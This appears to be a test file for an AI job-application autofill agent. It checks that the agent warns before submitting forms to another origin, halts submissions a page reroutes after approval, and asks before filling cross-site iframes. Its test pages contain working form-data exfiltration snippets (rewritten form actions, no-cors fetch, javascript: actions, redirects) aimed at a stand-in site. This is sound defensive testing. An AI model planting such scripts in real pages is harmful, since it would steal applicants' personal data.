import { describe, expect, it } from 'vitest';
import { fewOf } from '#tests/setup/few-of.ts';
import { apply } from '../apply-harness.ts';
import { onSites } from './on-sites.ts';
import { asPage, QUESTIONS } from './serve-site.ts';

const { browser, sites } = await onSites();

const other = () => sites.other;

describe('where a form goes', () => {
  it.each([
    [
      'action',
      () =>
        `<form action="${other()}/take" method="post">${QUESTIONS}<button>Submit application</button></form>`,
    ],
    [
      'formaction',
      () =>
        `<form action="/receive" method="post">${QUESTIONS}<button formaction="${other()}/take">Submit application</button></form>`,
    ],
  ])('is shown, warned of, and only then sent there (%s)', async (_what, form) => {
    const url = sites.page('/declared', asPage(form()));
    const { reviews, report } = await apply(browser.host, { url });
    expect(reviews[0]).toMatchObject({
      origin: other(),
      origins: expect.arrayContaining([sites.own, other()]),
    });
    expect(reviews[0]?.warnings.join()).toContain(`goes to ${new URL(other()).host}`);
    expect(report.submitted).toBe('confirmed');
    expect(sites.sent()).toHaveLength(1);
  });

  const form = `<form id="f" action="/receive" method="post">${QUESTIONS}<button id="go">Submit application</button></form>`;
  it.each(
    fewOf([
      ['onsubmit', () => `${form}<script>f.onsubmit = () => { f.action = '${other()}/take'; }</script>`],
      ['mousedown', () => `${form}<script>go.onmousedown = () => { f.action = '${other()}/take'; }</script>`],
      ['a timer', () => `${form}<script>setTimeout(() => { f.action = '${other()}/take'; }, 2500)</script>`],
      [
        'javascript:',
        () =>
          `<form id="f" action="javascript:void fetch('${other()}/take',{method:'POST',mode:'no-cors',body:new URLSearchParams(new FormData(f))})" method="post">${QUESTIONS}<button>Submit application</button></form>`,
      ],
      [
        'fetch',
        () =>
          `${form}<script>f.onsubmit = (event) => { event.preventDefault(); fetch('${other()}/take', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) }); }</script>`,
      ],
      [
        'an address',
        () =>
          `${form}<script>f.onsubmit = (event) => { event.preventDefault(); location.href = '${other()}/take?' + new URLSearchParams(new FormData(f)); }</script>`,
      ],
    ]),
  )('never becomes another one after the approval (%s)', async (what, page) => {
    const url = sites.page('/changes', asPage(page()));
    const { report } = await apply(browser.host, {
      url,
      confirmationMs: 2000,
      hooks: {
        review: async (question) => {
          // The timer of the page strikes while the person reads, however fast the form was filled in.
          await new Promise((resolve) => setTimeout(resolve, what === 'a timer' ? 3000 : 500));
          // A person who stops at whatever looks odd.
          if (question.warnings.length > 0) return { decision: 'stop' };
          return { decision: 'submit', formHash: question.formHash };
        },
      },
    });
    expect(sites.leaked()).toEqual([]);
    expect(report.submitted).toBe(false);
  });

  it('is not taken for sent where something else left and the page thanks', async () => {
    const url = sites.page(
      '/thanks-early',
      asPage(
        `<form id="f">${QUESTIONS}<button>Submit application</button></form><script>f.onsubmit = (event) => { event.preventDefault(); fetch('/pulse', { method: 'POST', body: '{"n":1}' }); fetch('${other()}/take', { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(f)) }); setTimeout(() => { document.body.innerHTML = '<h1>Thank you for applying</h1>'; }, 300); }</script>`,
      ),
    );
    const { report, journal } = await apply(browser.host, { url, confirmationMs: 2500 });
    expect(sites.leaked()).toEqual([]);
    expect(journal).toEqual(['armed', 'unknown']);
    expect(report).toMatchObject({ submitted: 'unknown', reason: expect.stringContaining('did not leave') });
  });

  it('ends as unknown where the site hands the application on to another one', async () => {
    sites.page('/hands-on', (_request, response) =>
      response.writeHead(307, { location: `${other()}/take` }).end(),
    );
    const url = sites.page(
      '/redirected',
      asPage(`<form action="/hands-on" method="post">${QUESTIONS}<button>Submit application</button></form>`),
    );
    const { report, journal } = await apply(browser.host, { url, confirmationMs: 2500 });
    expect(sites.leaked()).toEqual([]);
    expect(journal).toEqual(['armed', 'unknown']);
    expect(report.submitted).toBe('unknown');
  });
});

describe('a posting that leads to another site', () => {
  it.each([
    ['meta refresh', () => asPage('', `<meta http-equiv="refresh" content="0; url=${other()}/there">`)],
    ['script', () => asPage(`<script>location.href = '${other()}/there'</script>`)],
  ])('is told before anything is sent, and has no drafts of it (%s)', async (_what, page) => {
    sites.page(
      'other /there',
      asPage(
        `<form action="/take" method="post" oninput="fetch('/draft', { method: 'POST', body: new URLSearchParams(new FormData(this)) })">${QUESTIONS}<button>Submit application</button></form>`,
      ),
    );
    const url = sites.page('/leads-away', page());
    const { reviews } = await apply(browser.host, {
      url,
      hooks: { review: async () => ({ decision: 'stop' }) },
    });
    expect(reviews).toEqual([]);
    const seen: string[] = [];
    await apply(browser.host, {
      url,
      hooks: {
        review: async ({ warnings, origin }) => {
          seen.push(origin, ...warnings);
          return { decision: 'stop' };
        },
      },
    });
    expect(seen[0]).toBe(other());
    expect(seen.join()).toContain(`its form is at ${new URL(other()).host}`);
    expect(sites.leaked()).toEqual([]);
  });
});

describe('a frame of another site', () => {
  const page = () =>
    asPage(
      `${QUESTIONS.replaceAll('required', '')}<iframe src="${other()}/frame" width="600" height="400"></iframe><button>Submit application</button>`,
    );
  it('is not filled in without leave, and is shown', async () => {
    sites.page(
      'other /frame',
      asPage(
        '<form><label>Phone <input name="phone" type="tel"></label><label>City <input name="city"></label></form>',
      ),
    );
    const url = sites.page('/framed', page());
    const { asked, report } = await apply(browser.host, { url, canSubmit: false });
    expect(asked.flat().map(({ label }) => label)).toContain(
      `A part of this form belongs to ${new URL(other()).host}. May JobAI fill it in there?`,
    );
    const phone = report.fields.find(({ label }) => label === 'Phone');
    expect(phone).toMatchObject({ status: 'left-to-user', readBack: null });
  });

  it('is filled in with leave', async () => {
    const url = sites.page('/framed', page());
    const question = `A part of this form belongs to ${new URL(other()).host}. May JobAI fill it in there?`;
    const { report } = await apply(browser.host, { url, canSubmit: false, says: { [question]: 'Yes' } });
    expect(report.fields.find(({ label }) => label === 'Phone')).toMatchObject({ status: 'filled' });
  });
});
